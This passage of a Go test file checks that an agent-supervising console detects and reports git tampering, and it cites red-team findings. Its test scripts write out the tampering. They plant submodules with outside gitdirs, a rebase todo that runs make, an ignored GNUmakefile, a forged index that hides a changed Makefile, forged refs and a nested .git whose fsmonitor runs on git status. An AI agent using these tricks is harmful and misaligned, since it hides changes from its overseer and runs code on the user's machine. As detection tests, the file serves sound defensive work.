did "chmod u+w .git/objects/info/main/$OBJ; echo x > .git/objects/info/main/$OBJ"
did "echo x > .git/objects/info/main/pack/evil.pack"
did "echo /elsewhere > .git/objects/info/alternates"
did "mkdir -p .git/teamlead-objects/evil"
echo done; exec sleep 600`
	tm.extra = "    env: {OUT: " + out + ", BLOB: " + readme + ", OBJ: " + readme[:2] + "/" + readme[2:] + "}\n"
	tm.write("team.yaml", []agentDef{{name: "co", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	defer c.stop()
	checkAttempts(t, c, out, 6, 0, 1)
	waitCommitted(t, c, repo, "main", "co1")
	if got := git(t, repo, "cat-file", "-p", readme); got != "app" {
		t.Errorf("the human's README blob reads %q", got)
	}
	if o, err := exec.Command("git", "-C", repo, "fsck", "--no-progress", "--no-dangling").CombinedOutput(); err != nil || len(o) > 0 {
		t.Errorf("git fsck: %v\n%s", err, o)
	}
	if _, err := os.Stat(filepath.Join(repo, ".git", "teamlead-objects", "@checkout-co", readme[:2])); err == nil {
		t.Logf("the agent's folder has objects of %s's fan-out (its own)", readme[:2])
	}
}

// A submodule an agent working in the checkout makes, leading to a git
// folder of its own (or a git folder made in place), is told in Activity:
// the human's git status would run its configuration (red team 13d,
// finding 1); so are a file it changed and hid from git status, and a
// rebase todo it left that runs a command.
func TestForeignSubmoduleIsTold(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	evil := filepath.Join(tm.dir, "evilgd")
	script := `git init -q sm && (cd sm && echo x > f && git add f && git commit -q -m s) && mv sm/.git "$EVIL" &&
echo "gitdir: $EVIL" > sm/.git && git update-index --add --cacheinfo "160000,$(git --git-dir="$EVIL" rev-parse HEAD),sm"
git init -q own && (cd own && echo x > f && git add f && git commit -q -m o) && git update-index --add --cacheinfo "160000,$(git -C own rev-parse HEAD),own"
echo 'touch pwned' >> README && git update-index --assume-unchanged README
mkdir -p .git/rebase-merge && printf 'pick 1234567 x\nexec make\n' > .git/rebase-merge/git-rebase-todo
printf '.gitignore\nGNUmakefile\n' > .gitignore && printf 'all:\n\ttouch pwned\n' > GNUmakefile
sleep 1; git update-ref refs/heads/release "$(git commit-tree 'HEAD^{tree}' -p HEAD -m forged)"
exec sleep 600`
	tm.extra = "    env: {EVIL: " + evil + "}\n"
	git(t, repo, "branch", "release")
	tm.write("team.yaml", []agentDef{{name: "docs", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	defer c.stop()
	waitFor(t, 30*time.Second, "the submodule told", func() bool {
		o := c.out.String()
		return strings.Contains(o, "submodule sm → "+evil+" lies outside the repository's .git/modules") &&
			strings.Contains(o, "submodule own → "+filepath.Join(repo, "own", ".git")+" lies outside") &&
			strings.Contains(o, "file README is marked assume-unchanged or skip-worktree") &&
			strings.Contains(o, "a rebase is in progress, its todo runs 1 command") &&
			strings.Contains(o, "file GNUmakefile in the checkout of "+repo+" is ignored by git") &&
			strings.Contains(o, "refs/heads/release in the checkout of "+repo+" moved from")
	}, func() string { return c.out.String() })
}

// waitCommitted waits until the repository's branch holds the agent's
// commit whose subject is subject: the console takes it from the agent's
// own folders of refs and objects, copied and checked, as it looks at the
// worktree (every few seconds); before, the human's git does not see it.
func waitCommitted(t *testing.T, c *console, repo, branch, subject string) {
	t.Helper()
	waitFor(t, 20*time.Second, branch+" at the agent's commit "+subject, func() bool {
		out, err := exec.Command("git", "-C", repo, "log", "-1", "--format=%s", branch).Output()
		return err == nil && strings.TrimSpace(string(out)) == subject
	}, func() string { return c.out.String() })
}

// checkAttempts waits for an agent's script to write its n attempts to
// out (a line each, "DID: …" or "FAILED: …", then "done"), and checks that
// exactly those at the indexes done succeeded.
func checkAttempts(t *testing.T, c *console, out string, n int, done ...int) {
	t.Helper()
	waitFor(t, 30*time.Second, "the agent's attempts", func() bool {
		b, _ := os.ReadFile(out)
		return strings.Contains(string(b), "done")
	}, func() string { return c.out.String() })
	b, _ := os.ReadFile(out)
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
	if len(lines) != n+1 {
		t.Errorf("%d attempts, want %d:\n%s", len(lines)-1, n, b)
	}
	for i, l := range lines[:min(n, len(lines))] {
		if want := slices.Contains(done, i); strings.HasPrefix(l, "DID: ") != want {
			t.Errorf("attempt %d, want done=%v: %s", i+1, want, l)
		}
	}
}

// A file an agent in the checkout changed, whose index entry it wrote
// back to the old content's id with the new file's stat (git status then
// says the checkout is clean, and make runs the change), is told in
// Activity (red team 14d, finding 2). The forgery is made here, as the
// agent would make it.
func TestForgedIndexIsTold(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	if err := os.WriteFile(filepath.Join(repo, "Makefile"), []byte("all:\n\ttrue\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	git(t, repo, "add", "Makefile")
	git(t, repo, "commit", "-q", "-m", "make")
	old := git(t, repo, "rev-parse", "HEAD:Makefile")
	tm.write("team.yaml", []agentDef{{name: "co", dir: repo, command: []string{"/bin/sh", "-c", "exec sleep 600"}}})
	c := tm.start()
	defer c.stop()
	waitFor(t, 20*time.Second, "co running", func() bool { return strings.Contains(c.out.String(), "co running") }, c.out.String)
	mk := filepath.Join(repo, "Makefile")
	if err := os.WriteFile(mk, []byte("all:\n\ttouch pwned\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	past := time.Now().Add(-time.Minute)
	if err := os.Chtimes(mk, past, past); err != nil {
		t.Fatal(err)
	}
	git(t, repo, "add", "Makefile")
	index := filepath.Join(repo, ".git", "index")
	b, err := os.ReadFile(index)
	if err != nil {
		t.Fatal(err)
	}
	from, _ := hex.DecodeString(git(t, repo, "rev-parse", ":Makefile"))
	to, _ := hex.DecodeString(old)
	body := bytes.Replace(b[:len(b)-sha1.Size], from, to, 1)
	sum := sha1.Sum(body)
	if err := os.WriteFile(index, append(body, sum[:]...), 0o644); err != nil {
		t.Fatal(err)
	}
	if got := git(t, repo, "status", "--porcelain"); got != "" {
		t.Fatalf("git status after the forgery: %q", got)
	}
	waitFor(t, 20*time.Second, "the forged entry told", func() bool {
		return strings.Contains(c.out.String(), "file Makefile in the checkout of "+repo+" is not what your index says")
	}, c.out.String)
}

// What an agent working in the checkout does to the human's git is told:
// a new tag and branch, a MERGE_MSG left for the human's next commit; and
// each commit of its the console copies is recorded with its name (red
// team 16a, finding 9).
func TestCheckoutAgentsRefsStateAndCommitsAreTold(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	out := filepath.Join(tm.dir, "co.out")
	script := `exec > "$OUT" 2>&1; sleep 2
git tag v9.9; git branch release
echo x > f.txt; git add f.txt; git -c user.name=human -c user.email=h@example.com commit -q -m 'agent work'
echo 'agent says' > .git/MERGE_MSG
echo done; exec sleep 600`
	tm.extra = "    env: {OUT: " + out + "}\n"
	tm.write("team.yaml", []agentDef{{name: "co", dir: repo, command: []string{"/bin/sh", "-c", script}}})
	c := tm.start()
	defer c.stop()
	for _, want := range []string{"refs/tags/v9.9 in the checkout of " + repo + " appeared while agents ran",
		"refs/heads/release in the checkout of " + repo + " appeared while agents ran",
		filepath.Join(repo, ".git", "MERGE_MSG") + " appeared while agents ran"} {
		waitFor(t, 30*time.Second, want, func() bool { return strings.Contains(c.out.String(), want) },
			func() string { b, _ := os.ReadFile(out); return string(b) + c.out.String() })
	}
	waitFor(t, 20*time.Second, "the agent's commit recorded", func() bool {
		o, _ := tm.cli("audit", "--kind", "worktree", "--format", "json")
		return strings.Contains(o, "in the checkout of "+repo+": agent work") && strings.Contains(o, `"agent":"co"`)
	}, func() string { o, _ := tm.cli("audit", "--kind", "worktree"); return o })
}

// A folder with a .git of its own below a worktree agent's top is told
// (red team 16a, finding 10: its core.fsmonitor ran at the human's git
// status there).
func TestNestedGitInAWorktreeIsTold(t *testing.T) {
	needSandbox(t)
	tm, repo := teamWithRepo(t)
	tm.extra = "    worktree: true\n"
	tm.write("team.yaml", []agentDef{{name: "wt", dir: repo, command: []string{"/bin/sh", "-c", "git init -q docs; exec sleep 600"}}})
	c := tm.start()
	defer c.stop()
	want := filepath.Join(tm.dir, "app-worktrees", "wt", "docs") + " in agent wt's worktree holds a .git of its own"
	waitFor(t, 30*time.Second, "the nested .git told", func() bool { return strings.Contains(c.out.String(), want) }, c.out.String)
}
